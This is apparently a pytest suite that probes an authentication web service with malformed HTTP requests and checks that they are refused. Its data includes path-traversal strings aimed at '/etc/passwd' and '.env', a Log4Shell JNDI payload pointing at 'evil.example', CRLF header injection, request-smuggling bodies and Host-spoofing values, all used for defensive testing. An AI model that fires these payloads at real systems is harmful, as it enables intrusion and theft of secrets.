"""Paths, methods, hosts and headers that no well-behaved client sends."""

import pytest

from tests.attacks.contract import HEADERS, check_headers, check_problem, check_refused
from tests.attacks.wire import JSON, Answer, exchange, head, post
from tests.harness.client import PASSWORD
from tests.harness.service import Service

POSTS = ("/signup", "/verify-otp", "/login", "/verify-session", "/logout", "/resend-otp")
GETS = ("/healthz", "/readyz", "/openapi.json", "/.well-known/jwks.json", "/docs")
SCRIPT = "/static/user_auth/docs.js"
CREDENTIALS = {"email": "eve@example.com", "password": PASSWORD}
TOKEN = "Authorization: Bearer a.b.c"


def ask(service: Service, line: str, *headers: str, host: str | None = "127.0.0.1") -> Answer:
    return exchange(service, head(line, *headers, host=host))


VARIANTS = ["{}/", "/{}", "{}//", "/.{}", "/x/..{}", "/%2e{}", "/%2e%2e{}", "{}%2f", "{}%00", "{}%20", "{}%0a", "{};a=b"]
VARIANTS += ["{}.json", "{}%ff", "{}%c3%a9", "{}%", "{}%zz", "{}.", "{}\\", "/api{}"]


@pytest.mark.asvs("1.1.1")
@pytest.mark.parametrize("path", [*POSTS, *GETS])
def test_only_the_very_path_is_known(service: Service, path: str) -> None:
    """No slash more, no other case, no dots, no escapes that only look like it: 404, never a redirect."""
    method = "POST" if path in POSTS else "GET"
    others = [variant.format(path) for variant in VARIANTS] + [path.upper(), path[:2].upper() + path[2:]]
    for other in others:
        if other == path:
            continue
        check_problem(ask(service, f"{method} {other}"), 404, "not_found")


@pytest.mark.parametrize(
    "path",
    [
        *("/", "//", "/index.html", "/admin", "/api", "/favicon.ico", "/robots.txt", "/.env", "/.git/config", "/static"),
        *("/static/", "/static/user_auth/", "/static/none.js", "/static/../manage.py", "/static/%2e%2e/%2e%2e/manage.py"),
        *("/static/..%5c..%5cmanage.py", "/static//etc/passwd", "/static/user_auth/docs.js/", "/static/user_auth/docs.js%00"),
        *("/docs/errors/", "/docs/errors/none", "/docs/errors/%00", "/docs/errors/__class__", "/docs/errors/..%2f..%2f"),
        *("/mailbox", "/mailbox/1", "/metrics", "/" + "a" * 60_000, "/%0d%0aSet-Cookie:%20token=x", "/😀".encode().decode("latin-1")),
    ],
)
def test_what_is_not_there_is_not_found(service: Service, path: str) -> None:
    """No folder is listed, no file beside the static ones is served, nothing in a path becomes a header."""
    answer = ask(service, f"GET {path}")
    if not path.isascii():
        check_refused(answer)
        return
    check_problem(answer, 404, "not_found")
    assert not answer.all("set-cookie")


def test_static_files_answer_errors_as_everything_does(service: Service) -> None:
    """A method or a part that they do not have is a problem too."""
    assert ask(service, f"GET {SCRIPT}").status == 200
    check_problem(ask(service, f"POST {SCRIPT}"), 405, "method_not_allowed")


@pytest.mark.asvs("4.1.4", "13.4.4")
@pytest.mark.parametrize("path", [*POSTS, *GETS])
def test_only_the_methods_there_are_are_taken(service: Service, path: str) -> None:
    """Also made-up ones, other cases and TRACE get 405, with ``Allow``; what the body is does not matter then."""
    allowed = "POST, OPTIONS" if path in POSTS else "GET, HEAD, OPTIONS"
    own = "POST" if path in POSTS else "GET"
    for method in ("GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "BREW", own.lower(), own.title(), "M-SEARCH"):
        if method == own:
            continue
        answer = exchange(service, head(f"{method} {path}", "Content-Type: text/plain", TOKEN, body=b"x" * 100))
        check_problem(answer, 405, "method_not_allowed")
        assert answer.header("allow") == allowed


@pytest.mark.parametrize("method", ["GE T", "G\tET", "GET\x00", "(GET)", "{}", "", "\xe9"])
def test_what_is_no_method_is_no_request(service: Service, method: str) -> None:
    """The parser refuses it."""
    check_refused(ask(service, f"{method} /login"))


@pytest.mark.parametrize("path", [*POSTS, *GETS])
def test_options_says_what_there_is_and_nothing_more(service: Service, path: str) -> None:
    """No body, no description, no CORS where no other origin is trusted."""
    answer = ask(service, f"OPTIONS {path}", "Origin: https://evil.example", "Access-Control-Request-Method: POST")
    assert (answer.status, answer.body) == (204, b"")
    assert answer.header("allow") == ("POST, OPTIONS" if path in POSTS else "GET, HEAD, OPTIONS")
    assert not [name for name, _ in answer.headers if name.startswith("access-control-")]
    check_headers(answer)


@pytest.mark.parametrize("path", GETS)
def test_head_is_get_without_the_body(service: Service, path: str) -> None:
    """Status and headers are the same; of a path without GET it is refused, without a body too."""
    got, headed = ask(service, f"GET {path}"), ask(service, f"HEAD {path}")
    assert (headed.status, headed.body) == (got.status, b"")
    changing = {"date", "x-request-id"}
    assert [each for each in headed.headers if each[0] not in changing] == [
        each for each in got.headers if each[0] not in changing
    ]
    refused = ask(service, "HEAD /login")
    assert (refused.status, refused.header("allow"), refused.body) == (405, "POST, OPTIONS", b"")


@pytest.mark.parametrize("path", GETS)
def test_a_query_string_changes_nothing(service: Service, path: str) -> None:
    """What it could mean elsewhere (a format, a method, a callback) it does not mean here."""
    plain = ask(service, f"GET {path}")
    asked = ask(service, f"GET {path}?format=api&callback=x&_method=DELETE&%00&{'a' * 5000}")
    assert (asked.status, asked.body) == (plain.status, plain.body)


UNKNOWN_HOSTS = [
    *("evil.example", "evil.example:80", "127.0.0.1.evil.example", "evil.127.0.0.1", "localhost.evil.example", "127.0.0.2"),
    *("127.1", "2130706433", "0.0.0.0", "[::]", "::1", "user@127.0.0.1", "127.0.0.1@evil.example", "127.0.0.1#", "127.0.0.1/"),
    *("127.0.0.1, evil.example", "evil.example, 127.0.0.1", "127.0.0.1 ", "127.0.0.1\xe9", "\xe9", "", " ", "*", "." , "_"),
    "127.0.0.1:80:80",
]


@pytest.mark.parametrize("path", [*POSTS, "/openapi.json", "/docs", "/.well-known/jwks.json", "/none", SCRIPT, "/static/none"])
def test_every_path_keeps_unknown_hosts_out(service: Service, path: str) -> None:
    """Known and unknown ones, static files too: a rebound DNS name reads nothing at all."""
    method = "POST" if path in POSTS else "GET"
    check_problem(ask(service, f"{method} {path}", host="evil.example"), 400, "unknown_host")
    check_problem(ask(service, f"PUT {path}", host="evil.example:8000"), 400, "unknown_host")


@pytest.mark.parametrize("host", [host for host in UNKNOWN_HOSTS if host.strip() != "127.0.0.1"])
def test_a_host_that_only_looks_like_ours_is_unknown(service: Service, host: str) -> None:
    """Health alone is told to whoever asks."""
    check_problem(ask(service, "POST /verify-session", host=host), 400, "unknown_host")
    assert {ask(service, f"GET {path}", host=host).status for path in ("/healthz", "/readyz")} == {200}


@pytest.mark.parametrize(
    "request_head",
    [
        head("POST /verify-session", host=None),
        head("POST /verify-session HTTP/1.0", host=None),
        head("POST /verify-session", "Host: evil.example"),
        head("POST /verify-session", "Host: 127.0.0.1"),
        head("POST /verify-session", "Host: 127.0.0.1", host="evil.example"),
        head("POST /verify-session", "Host: \xe9vil.example"),
        head("POST /verify-session", "Host: 127.0.0.1", host="\xe9vil.example"),
        head("POST /verify-session", "X-Forwarded-Host: 127.0.0.1", "Forwarded: host=127.0.0.1", host="evil.example"),
        head("POST /verify-session", "X_Host: 127.0.0.1", "HTTP_HOST: 127.0.0.1", host="evil.example"),
        head("POST http://evil.example/verify-session"),
        head("POST http://127.0.0.1@evil.example/verify-session"),
        head("POST http://127.0.0.1:8000@evil.example:80/verify-session", host="127.0.0.1"),
    ],
    ids=lambda given: given.decode("latin-1").removeprefix("POST ").strip().replace("\r\n", "|"),
)
def test_there_is_one_host_and_it_is_ours(service: Service, request_head: bytes) -> None:
    """None, two, even two alike, another in the target: unknown."""
    check_problem(exchange(service, request_head), 400, "unknown_host")


@pytest.mark.parametrize("host", ["localhost", "LocalHost", "localhost:1", "127.0.0.1:65535", "[::1]", "[::1]:8000"])
def test_this_machine_goes_by_three_names(service: Service, host: str) -> None:
    """With any port, and in the target too."""
    check_problem(ask(service, "POST /verify-session", host=host), 401, "session_missing")
    check_problem(ask(service, f"POST http://{host}/verify-session", host="evil.example"), 401, "session_missing")


@pytest.mark.parametrize("given", ["a", "A.b_c-9", "0" * 64, "..", "-"])
def test_a_good_request_id_is_kept(service: Service, given: str) -> None:
    """In the header and in the problem."""
    answer = ask(service, "POST /verify-session", f"X-Request-Id: {given}")
    assert answer.header("x-request-id") == answer.json()["request_id"] == given


@pytest.mark.asvs("16.4.1")
@pytest.mark.parametrize(
    "given", ["", "0" * 65, "a b", "a,b", "a\tb", "é", "../x", "<script>", "a\r\nX-Request-Id: b", "a;b=c", '"', "%0d%0a", "x" * 9000]
)
def test_any_other_is_replaced(service: Service, given: str) -> None:
    """By one that can be looked up in a log, and nothing of the other is echoed."""
    answers = [ask(service, line, f"X-Request-Id: {given}") for line in ("POST /verify-session", "GET /none", "GET /healthz")]
    ids = {answer.header("x-request-id") for answer in answers}
    assert len(ids) == 3
    assert given not in ids
    assert all(len(each) == 22 for each in ids)


ODD_HEADERS = [
    "X-Long: " + "x" * 60_000,
    "User-Agent: \xff\xfe\x80",
    "User-Agent: " + "Mozilla " * 5000,
    "User-Agent: %s%s%n{0.__class__} ${jndi:ldap://evil.example/a} <script>",
    "Accept: text/html;q=1, application/json;q=0",
    "Accept: \xff",
    "Accept-Language: " + "," * 5000,
    "Accept-Encoding: gzip, br",
    "Cookie: " + "a=b; " * 5000,
    "Cookie: =; ;;; =x; device; token; device; __Host-token=a.b.c",
    "Cookie: device=" + "~" * 5000,
    "Cookie: device=" + "a.b~" * 3000,
    "Cookie: \xe9",
    "X-HTTP-Method-Override: DELETE",
    "X-Forwarded-For: " + "," * 50_000,
    "X-Forwarded-For: 256.1.1.1, ::gggg, [::1]:80, unknown, \xe9, 1.2.3.4%eth0",
    "Forwarded: for=_;by=_",
    "X-Forwarded-Proto: https",
    "X-Original-URL: /admin",
    "X-Rewrite-URL: /admin",
    "Upgrade: websocket\r\nConnection: Upgrade",
    "Expect: 200-maybe",
    "Range: bytes=0-1",
    "If-None-Match: *",
    "If-Modified-Since: yesterday",
    "Referer: \xff",
    "Origin: http://127.0.0.1:99999999\r\nAuthorization: Bearer x",
    "Sec-Fetch-Site: none\r\nOrigin: http://[::1",
    "SCRIPT_NAME: /x\r\nPATH_INFO: /x\r\nREMOTE_ADDR: 1.2.3.4\r\nwsgi.input: x\r\nuser_auth.request_id: x",
    "Proxy: http://evil.example",
]


@pytest.mark.parametrize("header", ODD_HEADERS, ids=lambda header: ascii(header[:40]))
def test_odd_headers_change_nothing(service: Service, header: str) -> None:
    """Too long, not text, meant for other servers: the answer is the one without them."""
    answer = exchange(service, post("/login", CREDENTIALS, header))
    check_problem(answer, 401, "invalid_credentials")
    assert answer.header("content-type") == "application/problem+json"
    assert not answer.all("set-cookie")


@pytest.mark.asvs("4.2.1")
@pytest.mark.parametrize(
    "header",
    [
        "X-Folded: a\r\n b",
        "X-Spaced : a",
        " X-Indented: a",
        "X-Bare-CR: a\rSet-Cookie: b",
        "X-Nul: a\x00b",
        "X-\xe9: a",
        "No colon at all",
        ": no name",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "Transfer-Encoding: xchunked",
        "Content-Length: 5\r\nContent-Length: 6",
        "\r\n".join(f"X-{number}: a" for number in range(200)),
        "X-Long: " + "x" * 200_000,
    ],
    ids=lambda header: ascii(header[:40]),
)
def test_what_two_servers_could_read_in_two_ways_is_no_request(service: Service, header: str) -> None:
    """Folded lines, two lengths, unknown transfer codings, headers without end: the parser refuses all of it."""
    answer = ask(service, "POST /verify-session", header)
    assert answer.status in (400, 431)
    assert not answer.body


def test_a_length_and_chunks_together_end_the_connection(service: Service) -> None:
    """The chunks count (RFC 9112 §6.3), and whatever comes behind them is not taken for another request."""
    body = b'{"email":"eve@example.com","password":"x"}'
    smuggled = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body) + head("GET /healthz")
    answer = exchange(service, head("POST /login", JSON, "Content-Length: 4", "Transfer-Encoding: chunked") + smuggled)
    check_problem(answer, 401, "invalid_credentials")


@pytest.mark.parametrize(
    "nonsense",
    [
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\r\n\r\n",
        b"GET /\r\n\r\n",
        b"GET / HTTP/9.9\r\n\r\n",
        b"GET / HTP/1.1\r\n\r\n",
        b"hello\r\n\r\n",
        b"GET  /healthz HTTP/1.1\r\n\r\n",
        b"GET /\xff HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        b"GET /a\x00b HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        b"GET /" + b"a" * 70_000 + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    ],
    ids=lambda nonsense: repr(nonsense[:24]),
)
def test_what_is_not_http_is_refused(service: Service, nonsense: bytes) -> None:
    """Bare, as the parser does it."""
    check_refused(exchange(service, nonsense))


def test_the_headers_of_every_kind_of_answer(service: Service) -> None:
    """Success and refusal, page and document, key set and static file: each has what the contract asks for."""
    lines = ["GET /healthz", "GET /openapi.json", "GET /docs", "GET /docs/errors/not_found", "GET /none", "BREW /login"]
    for line in [*lines, "POST /logout", "POST /verify-session", "OPTIONS /login"]:
        check_headers(ask(service, line))
    for line in ("GET /.well-known/jwks.json", f"GET {SCRIPT}"):
        answer = ask(service, line)
        wanted = {name: value for name, value in HEADERS.items() if name != "cache-control"}
        assert {name: answer.header(name) for name in wanted} == wanted
        assert "no-store" not in answer.header("cache-control")
        assert answer.header("x-request-id")
        assert not answer.header("server")


@pytest.mark.asvs("3.2.1", "4.1.1")
@pytest.mark.parametrize("accept", ["text/html", "application/xml", "*/*;q=0", "image/*"])
def test_json_is_what_the_api_speaks(service: Service, accept: str) -> None:
    """No browsable page, no 406; and a page stays a page."""
    for line in ("POST /verify-session", "GET /none", "GET /healthz"):
        assert "json" in ask(service, line, f"Accept: {accept}").header("content-type")


def test_a_path_does_not_write_into_the_log(service: Service) -> None:
    """Neither lines of its own, nor colors, nor the address of a person."""
    said = len(service.output)
    check_problem(ask(service, "GET /forged%0a%1b[31mline/of.somebody@example.com"), 404, "not_found")
    written = service.output[said:]
    assert "\x1b" not in written
    assert not any(line.startswith("\x1b") or line.startswith("line") for line in written.splitlines())
    assert "of.somebody@example.com" not in written
